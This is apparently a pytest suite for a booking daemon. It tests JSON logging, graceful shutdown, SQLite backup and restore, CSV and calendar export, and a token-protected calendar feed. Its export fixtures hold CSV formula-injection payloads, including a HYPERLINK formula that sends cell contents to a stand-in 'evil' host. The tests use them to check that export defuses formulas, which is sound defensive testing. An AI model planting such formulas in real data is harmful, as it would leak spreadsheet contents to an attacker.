"""Operations (issue 12): BOOKINGD_LOG_FORMAT, graceful shutdown, backup and
restore, export and the host's calendar feed."""
import csv
import io
import json
import re
import signal
import socket
import sqlite3
import subprocess
import threading
import time
import urllib.parse

import icalendar
import pytest

from conftest import (Daemon, assert_error, parse_instant, parse_raw_response,
                      standard_catalog)


# ---- BOOKINGD_LOG_FORMAT -----------------------------------------------------

def json_lines(text):
    """Every line of text parsed as one JSON object (the test fails on the
    first that is not)."""
    out = []
    for n, line in enumerate(text.splitlines(), 1):
        try:
            obj = json.loads(line)
        except ValueError as e:
            pytest.fail(f"stderr line {n} is not JSON ({e}): {line!r}")
        assert isinstance(obj, dict), line
        for key in ("time", "level", "message"):
            assert isinstance(obj.get(key), str), line
        out.append(obj)
    return out


def test_json_logs_are_one_object_per_line(make_daemon):
    d = make_daemon(env={"BOOKINGD_LOG_FORMAT": "json"})
    d.apply(standard_catalog())
    assert d.get("/healthz", headers={"X-Request-Id": "probe-1"}).status == 200
    assert d.get("/api/v1/hosts/coach", admin=True).status == 200
    # Three segments: no route, not even the booking pages' /{host} and
    # /{host}/{event_type}, catches it.
    assert d.get("/nope/a/b").status == 404
    # Hostile bytes in the path: quotes, backslashes, control characters
    # and invalid UTF-8 must still give parseable lines.
    d.raw(b'GET /x%22%5C%0a%01%ff%c3%28"\\ HTTP/1.1\r\nHost: x\r\n'
          b"Connection: close\r\n\r\n")
    problems = d.stop()
    assert not problems, problems
    lines = json_lines(d.stderr())
    assert {o["level"] for o in lines} <= {"error", "warn", "info", "debug"}
    access = [o for o in lines if "status" in o]
    probe = [o for o in access if o["request_id"] == "probe-1"]
    assert len(probe) == 1, access
    assert probe[0]["method"] == "GET" and probe[0]["path"] == "/healthz"
    assert probe[0]["route"] == "/healthz"
    assert probe[0]["status"] == 200
    assert isinstance(probe[0]["duration_ms"], int)
    host = [o for o in access if o["path"] == "/api/v1/hosts/coach"]
    assert host and host[0]["route"] == "/api/v1/hosts/{slug}", host
    nope = [o for o in access if o["path"] == "/nope/a/b"]
    assert nope and nope[0]["route"] is None and nope[0]["status"] == 404
    assert any(o["path"].startswith('/x"\\') for o in access), access
    assert any("shutting down" in o["message"] for o in lines)


def test_text_logs_stay_the_default(make_daemon):
    d = make_daemon()
    assert d.get("/healthz").status == 200
    problems = d.stop()
    assert not problems, problems
    lines = d.stderr().splitlines()
    assert any(" info http GET /healthz 200 " in line for line in lines)
    assert not any(line.startswith("{") for line in lines)


@pytest.mark.parametrize("value", ["JSON", "xml", "json ", "text\njson",
                                   "j\x1bson", "x" * 5000])
def test_bad_log_format_is_a_one_line_error(tmp_path, value):
    d = Daemon(tmp_path / "d", env={"BOOKINGD_LOG_FORMAT": value})
    p = subprocess.run([d.bin, "serve"], env=d.env(), capture_output=True,
                       timeout=30, cwd=d.workdir)
    assert p.returncode == 2, p
    err = p.stderr.decode("utf-8", "replace")
    assert err.count("\n") == 1, err
    assert err.startswith("bookingd: BOOKINGD_LOG_FORMAT: must be text or "
                          "json"), err


# ---- graceful shutdown -------------------------------------------------------

def start_trickled_booking(d, start):
    """Opens a connection and sends a booking's headers and half its body;
    returns (socket, the rest of the body)."""
    body = json.dumps({"event_type": "intro", "start": start,
                       "attendee": {"name": "Slow Sam",
                                    "email": "sam@example.com"}}).encode()
    s = socket.create_connection(("127.0.0.1", d.port), timeout=30)
    s.sendall(b"POST /api/v1/bookings HTTP/1.1\r\nHost: x\r\n"
              b"Content-Type: application/json\r\n"
              b"Content-Length: %d\r\n\r\n" % len(body) + body[:10])
    return s, body[10:]


def read_answer(s):
    chunks = []
    try:
        while True:
            c = s.recv(65536)
            if not c:
                break
            chunks.append(c)
    except (ConnectionResetError, socket.timeout):
        pass
    s.close()
    return parse_raw_response(b"".join(chunks)) if chunks else None


def in_flight(d):
    """The daemon's own count of requests begun and not answered, less the
    scrape that asked."""
    r = d.get("/metrics", admin=True)
    assert r.status == 200, r
    for line in r.body.decode().splitlines():
        if line.startswith("bookingd_http_requests_in_flight "):
            return int(float(line.split()[1])) - 1
    raise AssertionError("no bookingd_http_requests_in_flight in /metrics")


def wait_for(pred, what, timeout=60):
    """A bounded poll (the machine may be loaded: waits for states, not
    moments)."""
    until = time.monotonic() + timeout
    while not pred():
        assert time.monotonic() < until, f"no {what} after {timeout} s"
        time.sleep(0.02)


def log_order(text, *needles):
    """Asserts each needle is in text, each after the one before."""
    at = 0
    for n in needles:
        i = text.find(n, at)
        assert i >= 0, f"{n!r} missing (or out of order) in:\n{text}"
        at = i + len(n)


STOPPING = "http: accepting no more connections"


def test_sigterm_answers_the_request_in_flight_then_exits_0(make_daemon):
    # The deadline is generous: this test is about order (the request in
    # flight is answered, then the daemon exits 0), and the daemon says
    # whether it met its deadline ("still in flight" when it did not).
    d = make_daemon(env={"BOOKINGD_SHUTDOWN_TIMEOUT_MS": "60000"})
    d.apply(standard_catalog())
    start = d.slot_starts("intro")[0]
    s, rest = start_trickled_booking(d, start)
    wait_for(lambda: in_flight(d) >= 1, "request in flight")
    d.proc.send_signal(signal.SIGTERM)
    wait_for(lambda: STOPPING in d.stderr(), "shutdown log line")
    # Ours, and maybe the last scrape's (its completion may trail its
    # answer).
    n = re.search(STOPPING + r"; (\d+) request\(s\) in flight", d.stderr())
    assert n and int(n.group(1)) >= 1, d.stderr()
    # No new requests once it stopped accepting: a new connection is
    # closed as soon as it is accepted, without an answer.
    try:
        c = socket.create_connection(("127.0.0.1", d.port), timeout=10)
    except OSError:
        pass
    else:
        with c:
            try:
                c.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
                assert c.recv(1024) == b"", "a new request was answered"
            except OSError:
                pass
    assert d.alive(), "the daemon left before its request was answered"
    s.sendall(rest)
    r = read_answer(s)
    assert r is not None and r.status == 201, r
    assert r.header("Connection").lower() == "close", r.headers
    problems = d.wait_exit(timeout=60)
    assert not problems, problems
    err = d.stderr()
    assert "still in flight" not in err, err
    log_order(err, "shutting down", STOPPING, "serve: stopped")
    # The booking committed: it is there after a restart.
    d.start()
    uid = r.json["uid"]
    assert d.get(f"/api/v1/bookings/{uid}", admin=True).status == 200


def test_sigterm_cuts_a_request_past_the_deadline(make_daemon):
    d = make_daemon(env={"BOOKINGD_SHUTDOWN_TIMEOUT_MS": "700"})
    d.apply(standard_catalog())
    start = d.slot_starts("intro")[0]
    s, rest = start_trickled_booking(d, start)
    idle = socket.create_connection(("127.0.0.1", d.port), timeout=30)
    wait_for(lambda: in_flight(d) >= 1, "request in flight")
    t0 = time.monotonic()
    d.proc.send_signal(signal.SIGTERM)
    problems = d.wait_exit(timeout=60)
    took = time.monotonic() - t0
    assert not problems, problems  # exit 0
    # It waited for the deadline (never less), then cut the request; the
    # upper bound only catches a daemon that waited for the request
    # rather than the deadline (the trickled request never completes).
    assert took >= 0.7, took
    assert took < 30, took
    log_order(d.stderr(), "shutting down", STOPPING,
              "still in flight after 700 ms", "serve: stopped")
    try:
        s.sendall(rest)
    except OSError:
        pass
    assert read_answer(s) is None  # cut, never answered
    idle.close()
    # Nothing was booked by the cut request.
    d.start()
    assert d.slot_starts("intro")[0] == start


def test_sigterm_with_nothing_in_flight_is_prompt(make_daemon):
    # An idle keep-alive connection does not count as a request in
    # flight, so the drain ends at once: the daemon's own log says so (no
    # "still in flight" after the default 10 s deadline).
    d = make_daemon()
    idle = socket.create_connection(("127.0.0.1", d.port), timeout=30)
    idle.sendall(b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n")
    assert b" 200 " in idle.recv(4096)
    t0 = time.monotonic()
    problems = d.stop()
    assert not problems, problems
    err = d.stderr()
    assert "still in flight" not in err, err
    log_order(err, "shutting down", STOPPING, "serve: stopped")
    assert time.monotonic() - t0 < 30, "waited for the idle connection"
    idle.close()


@pytest.mark.parametrize("value", ["-1", "3600001", "1e3", "10s", " 5",
                                   "0x10", "9" * 40, "5\n"])
def test_bad_shutdown_timeout_is_a_one_line_error(tmp_path, value):
    d = Daemon(tmp_path / "d", env={"BOOKINGD_SHUTDOWN_TIMEOUT_MS": value})
    p = subprocess.run([d.bin, "serve"], env=d.env(), capture_output=True,
                       timeout=30, cwd=d.workdir)
    assert p.returncode == 2, p
    err = p.stderr.decode("utf-8", "replace")
    assert err.count("\n") == 1, err
    assert err.startswith("bookingd: BOOKINGD_SHUTDOWN_TIMEOUT_MS: must be "
                          "an integer 0..3600000"), err


# ---- bookingd backup and restore ---------------------------------------------

def backup_uids(path):
    """The booking uids of a backup file, after its integrity checks."""
    con = sqlite3.connect(f"file:{path}?mode=ro", uri=True)
    try:
        assert con.execute("PRAGMA integrity_check").fetchall() == [("ok",)]
        assert con.execute("PRAGMA foreign_key_check").fetchall() == []
        assert con.execute("PRAGMA journal_mode").fetchone()[0] == "delete"
        return {r[0] for r in con.execute("SELECT uid FROM bookings")}
    finally:
        con.close()


@pytest.mark.sqlite_only("SQLite's online backup; PostgreSQL has pg_dump")
@pytest.mark.floods("three threads book as fast as they can")
def test_backup_while_booking_holds_a_consistent_prefix(app, tmp_path):
    starts = app.slot_starts("intro", span=6)
    assert len(starts) >= 60
    n_threads = 3
    made = [[] for _ in range(n_threads)]
    stop = threading.Event()

    def book(i):
        # Each thread books its own slots one after another: what a backup
        # holds of a thread's bookings must be a prefix of them.
        for k, start in enumerate(starts[i::n_threads]):
            if stop.is_set():
                break
            r = app.book("intro", start, email=f"b{i}-{k}@example.com")
            made[i].append(r.json["uid"])
        return len(made[i])

    threads = [threading.Thread(target=book, args=(i,), daemon=True)
               for i in range(n_threads)]
    for t in threads:
        t.start()
    backups = []
    try:
        time.sleep(0.3)
        for n in range(3):
            path = tmp_path / f"backup-{n}.db"
            p = app.cli("backup", str(path))
            assert p.returncode == 0, p.stderr
            assert "backed up" in p.stdout
            backups.append(path)
            time.sleep(0.2)
    finally:
        stop.set()
        for t in threads:
            t.join(60)
    total = sum(len(m) for m in made)
    sizes = []
    for path in backups:
        uids = backup_uids(path)
        sizes.append(len(uids))
        for m in made:
            k = len(uids & set(m))
            assert set(m[:k]) <= uids, "a backup holds a booking without " \
                                       "the ones acknowledged before it"
        assert uids <= {u for m in made for u in m}
    assert sizes == sorted(sizes), sizes
    assert 0 < sizes[0] and sizes[-1] <= total, (sizes, total)


@pytest.mark.sqlite_only("SQLite's online backup; PostgreSQL has pg_dump")
def test_restore_round_trip(app, tmp_path):
    starts = app.slot_starts("intro")
    kept = app.book("intro", starts[0], email="kept@example.com").json["uid"]
    path = tmp_path / "backup.db"
    assert app.cli("backup", str(path)).returncode == 0
    later = app.book("intro", starts[1], email="later@example.com").json["uid"]
    r = app.post(f"/api/v1/bookings/{kept}/cancel", {"reason": "x"},
                 admin=True)
    assert r.status == 200, r
    # Refused while the daemon serves the file; nothing changes.
    p = app.cli("restore", str(path))
    assert p.returncode == 1, p
    assert "in use by another bookingd process" in p.stderr, p.stderr
    assert p.stderr.count("\n") == 1, p.stderr
    assert app.get(f"/api/v1/bookings/{later}", admin=True).status == 200
    app.stop_checked()
    p = app.cli("restore", str(path))
    assert p.returncode == 0, p.stderr
    app.start()
    assert app.get(f"/api/v1/bookings/{later}", admin=True).status == 404
    b = app.get(f"/api/v1/bookings/{kept}", admin=True)
    assert b.status == 200 and b.json["status"] == "confirmed", b
    # The manage secret came back too: old manage links still work.


@pytest.mark.sqlite_only("restores SQLite files")
def test_restore_refuses_what_is_not_a_bookingd_backup(daemon, tmp_path):
    daemon.stop_checked()
    before = daemon.db_path.read_bytes()
    text = tmp_path / "text.db"
    text.write_text("SQLite format 3 but not really\n" * 100)
    other = tmp_path / "other.db"
    con = sqlite3.connect(other)
    con.execute("CREATE TABLE t (x)")
    con.commit()
    con.close()
    newer = tmp_path / "newer.db"
    assert daemon.cli("backup", str(newer)).returncode == 0
    con = sqlite3.connect(newer)
    con.execute("PRAGMA user_version = 999")
    con.commit()
    con.close()
    damaged = tmp_path / "damaged.db"
    assert daemon.cli("backup", str(damaged)).returncode == 0
    con = sqlite3.connect(damaged)
    root, = con.execute("SELECT rootpage FROM sqlite_schema "
                        "WHERE name = 'bookings'").fetchone()
    page_size, = con.execute("PRAGMA page_size").fetchone()
    con.close()
    data = bytearray(damaged.read_bytes())
    off = (root - 1) * page_size
    data[off:off + 8] = b"\x07" * 8  # not a b-tree page type
    damaged.write_bytes(bytes(data))
    cases = {
        str(text): "is not a SQLite database",
        str(other): "is not a bookingd database",
        str(newer): "newer than this bookingd knows",
        str(damaged): "damaged",
        str(tmp_path / "missing.db"): "No such file",
        str(tmp_path): "not a regular file",
    }
    for arg, want in cases.items():
        p = daemon.cli("restore", arg)
        assert p.returncode == 1, (arg, p)
        assert want in p.stderr, (arg, p.stderr)
        assert p.stderr.count("\n") == 1, p.stderr
    assert daemon.db_path.read_bytes() == before


@pytest.mark.parametrize("args", [[], ["a", "b"], [""], ["-"], ["--force"],
                                  ["x" * 5000], ["a\nb"], ["a\x1bb"]])
def test_backup_and_restore_refuse_bad_arguments(daemon, args):
    for cmd in ("backup", "restore"):
        p = daemon.cli(cmd, *args)
        assert p.returncode == 2, (cmd, args, p)
        assert p.stderr.count("\n") == 1, p.stderr
        assert p.stderr.startswith(f"usage: bookingd {cmd} FILE") or \
            p.stderr.startswith(f"bookingd {cmd}: FILE must be"), p.stderr


@pytest.mark.sqlite_only("backs up SQLite files")
def test_backup_refuses_an_existing_or_unwritable_file(daemon, tmp_path):
    existing = tmp_path / "existing.db"
    existing.write_text("precious")
    p = daemon.cli("backup", str(existing))
    assert p.returncode == 1 and "exists" in p.stderr, p
    assert existing.read_text() == "precious"
    p = daemon.cli("backup", str(tmp_path / "no" / "such" / "dir.db"))
    assert p.returncode == 1 and "cannot create" in p.stderr, p
    p = daemon.cli("backup", str(tmp_path / "x.db"),
                   env={"BOOKINGD_DATABASE": f"sqlite:{tmp_path}/none.db"})
    assert p.returncode == 1 and "No such file" in p.stderr, p
    assert not (tmp_path / "none.db").exists()
    assert not (tmp_path / "x.db").exists()


@pytest.mark.pg_only("the message for PostgreSQL databases")
def test_backup_on_postgresql_points_to_pg_dump(daemon, tmp_path):
    for cmd, tool in (("backup", "pg_dump"), ("restore", "pg_restore")):
        p = daemon.cli(cmd, str(tmp_path / "x.db"))
        assert p.returncode == 1, p
        assert tool in p.stderr and p.stderr.count("\n") == 1, p.stderr
    assert not (tmp_path / "x.db").exists()


# ---- export and the calendar feed --------------------------------------------

HOSTILE_NOTES = '=HYPERLINK("http://evil/?"&A1,"click"), "quoted"; semi\\back\nline two'
HOSTILE_NAME = '+SUM(1,2) "Quote" Mc;Name, Jr.'


def book_hostile(app):
    starts = app.slot_starts("intro")
    a = app.book("intro", starts[0], email="-minus@example.com",
                 name=HOSTILE_NAME, notes=HOSTILE_NOTES).json
    b = app.book("intro", starts[1], email="plain@example.com",
                 name="@at Plain").json
    c = app.book("intro", starts[2], email="gone@example.com",
                 name="Gone").json
    r = app.post(f"/api/v1/bookings/{c['uid']}/cancel", {"reason": "=1+1"},
                 admin=True)
    assert r.status == 200, r
    return a, b, c


def parse_csv(text):
    assert text.endswith("\r\n"), text[-20:]
    rows = list(csv.reader(io.StringIO(text, newline="")))
    header = rows[0]
    return [dict(zip(header, r)) for r in rows[1:]]


def test_export_bookings_csv_defuses_formulas(app):
    a, b, c = book_hostile(app)
    p = app.cli("export", "bookings", "--format", "csv")
    assert p.returncode == 0, p.stderr
    rows = {r["uid"]: r for r in parse_csv(p.stdout)}
    assert set(rows) == {a["uid"], b["uid"], c["uid"]}
    ra = rows[a["uid"]]
    assert ra["notes"] == "'" + HOSTILE_NOTES
    assert ra["attendee_name"] == "'" + HOSTILE_NAME
    assert ra["attendee_email"] == "'-minus@example.com"
    assert ra["status"] == "confirmed" and ra["event_type"] == "intro"
    assert ra["host"] == "coach"
    assert ra["start"] == a["start"].replace("+00:00", "Z") or \
        ra["start"].endswith("Z")
    assert rows[b["uid"]]["attendee_name"] == "'@at Plain"
    assert rows[c["uid"]]["status"] == "cancelled"
    assert rows[c["uid"]]["cancellation_reason"] == "'=1+1"
    for r in rows.values():
        for k, v in r.items():
            assert not v or v[0] not in "=+-@\t\r", (k, v)


def test_export_clients_csv(app):
    book_hostile(app)
    p = app.cli("export", "clients", "--format=csv")
    assert p.returncode == 0, p.stderr
    rows = parse_csv(p.stdout)
    emails = {r["email"] for r in rows}
    assert emails == {"'-minus@example.com", "plain@example.com",
                      "gone@example.com"}
    assert all(r["id"].startswith("cli_") for r in rows)
    assert all(r["phone"] == "" and r["notes"] == "" for r in rows)
    # Phone and notes: a leading '+' guarded, a line break quoted.
    cid = [r["id"] for r in rows if r["email"] == "plain@example.com"][0]
    r = app.patch(f"/api/v1/clients/{cid}",
                  {"phone": "+49 30 1234567", "notes": "two\nlines, \"ok\""},
                  admin=True)
    assert r.status == 200, r
    rows = parse_csv(app.cli("export", "clients").stdout)
    row = [r for r in rows if r["id"] == cid][0]
    assert row["phone"] == "'+49 30 1234567", row
    assert row["notes"] == "two\nlines, \"ok\"", row
    p = app.cli("export", "clients", "--format=csv")
    # Default format is CSV.
    assert app.cli("export", "clients").stdout == p.stdout


def test_export_bookings_ics_parses(app):
    a, b, c = book_hostile(app)
    p = app.cli("export", "bookings", "--format", "ics")
    assert p.returncode == 0, p.stderr
    cal = icalendar.Calendar.from_ical(p.stdout)
    assert str(cal["VERSION"]) == "2.0"
    events = {str(e["UID"]): e for e in cal.walk("VEVENT")}
    assert set(events) == {x['uid'] for x in (a, b, c)}
    ea = events[a['uid']]
    assert str(ea["DESCRIPTION"]) == HOSTILE_NOTES
    assert HOSTILE_NAME in str(ea["SUMMARY"])
    assert str(ea["STATUS"]) == "CONFIRMED"
    assert ea["DTSTART"].dt.isoformat().replace("+00:00", "Z") == \
        parse_instant(a["start"]).isoformat().replace("+00:00", "Z")
    assert str(events[c['uid']]["STATUS"]) == "CANCELLED"
    assert "\r\n" in p.stdout and all(
        len(line.encode()) <= 75 for line in p.stdout.split("\r\n"))


@pytest.mark.floods("130 bookings from one address in a row")
def test_export_of_many_bookings_pages(app):
    starts = app.slot_starts("intro", span=6)
    n = min(len(starts), 130)
    for i in range(n):
        app.book("intro", starts[i], email=f"m{i}@example.com")
    p = app.cli("export", "bookings")
    assert len(parse_csv(p.stdout)) == n
    p = app.cli("export", "bookings", "--format", "ics")
    assert len(icalendar.Calendar.from_ical(p.stdout).walk("VEVENT")) == n


@pytest.mark.parametrize("args", [[], ["hosts"], ["bookings", "--format"],
                                  ["bookings", "--format", "xml"],
                                  ["bookings", "--format", "CSV"],
                                  ["bookings", "--format", "csv", "--format",
                                   "ics"],
                                  ["bookings", "extra"],
                                  ["clients", "--format", "ics"],
                                  ["bookings\n", "--format", "csv"],
                                  ["x" * 5000]])
def test_export_refuses_bad_arguments(daemon, args):
    p = daemon.cli("export", *args)
    assert p.returncode == 2, (args, p)
    assert p.stdout == ""
    assert p.stderr.count("\n") == 1, p.stderr


def feed_url(app, slug="coach"):
    r = app.get(f"/api/v1/hosts/{slug}/calendar-feed", admin=True)
    assert r.status == 200, r
    url = urllib.parse.urlsplit(r.json["url"])
    assert url.path == f"/calendar/{slug}.ics"
    return url.path, dict(urllib.parse.parse_qsl(url.query))


def test_calendar_feed(app):
    a, b, c = book_hostile(app)
    path, query = feed_url(app)
    assert len(query["token"]) == 43
    r = app.get(path, query=query)
    assert r.status == 200, r
    assert r.header("Content-Type").startswith("text/calendar")
    cal = icalendar.Calendar.from_ical(r.body.decode())
    uids = {str(e["UID"]) for e in cal.walk("VEVENT")}
    # Cancelled bookings leave the feed.
    assert uids == {a['uid'], b['uid']}
    assert str(cal["X-WR-CALNAME"])
    ev = [e for e in cal.walk("VEVENT")
          if str(e["UID"]) == a['uid']][0]
    assert str(ev["ORGANIZER"]).startswith("mailto:")
    assert str(ev["DESCRIPTION"]) == HOSTILE_NOTES
    # The same URL keeps working after a restart (derived, not random).
    app.restart()
    assert app.get(path, query=query).status == 200


def test_calendar_feed_refuses_without_its_token(app):
    path, query = feed_url(app)
    token = query["token"]
    other = standard_catalog(host="other")
    app.apply(other)
    _, oq = feed_url(app, "other")
    bad = [
        (path, {}),
        (path, {"token": ""}),
        (path, {"token": token[:-1]}),
        (path, {"token": token + "A"}),
        (path, {"token": token.upper()}),
        (path, {"token": oq["token"]}),  # another host's
        ("/calendar/nobody.ics", {"token": token}),
        ("/calendar/coach", {"token": token}),
        ("/calendar/.ics", {"token": token}),
        ("/calendar/COACH.ics", {"token": token}),
        ("/calendar/coach.ics.ics", {"token": token}),
        ("/calendar/" + "a" * 300 + ".ics", {"token": token}),
    ]
    for p, q in bad:
        r = app.get(p, query=q)
        assert r.status == 404, (p, q, r)
        assert_error(r, 404)
    assert app.get("/api/v1/hosts/coach/calendar-feed").status == 401
    assert app.get("/api/v1/hosts/nobody/calendar-feed",
                   admin=True).status == 404
